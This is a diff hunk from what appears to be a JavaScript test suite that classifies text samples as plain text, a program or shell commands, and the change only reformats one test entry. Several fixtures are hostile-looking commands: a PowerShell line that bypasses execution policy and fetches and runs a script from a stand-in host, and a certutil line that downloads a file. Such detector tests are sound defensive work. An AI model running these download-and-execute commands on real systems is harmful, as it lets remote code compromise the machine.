@@ -107,7 +107,10 @@ describe('a text may be nothing of ours', () => {
     ['https://example.com/a\nhttps://example.com/b', 'text'],
     ['1.2.3.4\n5.6.7.8', 'text'],
     ['import os\nfrom x import y\nprint("a")', 'a program'],
-    ['powershell -exec bypass -c "iwr(\'http://a.test/b\')|iex"\n\nset "R=C:\\T" && cmd /c a.exe /lockscreenurl:https://b.test/c /eventName:d', 'commands of a shell'],
+    [
+      'powershell -exec bypass -c "iwr(\'http://a.test/b\')|iex"\n\nset "R=C:\\T" && cmd /c a.exe /lockscreenurl:https://b.test/c /eventName:d',
+      'commands of a shell',
+    ],
     ['C:\\>certutil.exe -urlcache -f https://a.test/b c:d', 'commands of a shell'],
     ['Get-Process | Where-Object { $_.Name -eq "x" } | Select-Object Name', 'text'],
     ['cat a.txt | grep foo | sort | uniq -c', 'text'],
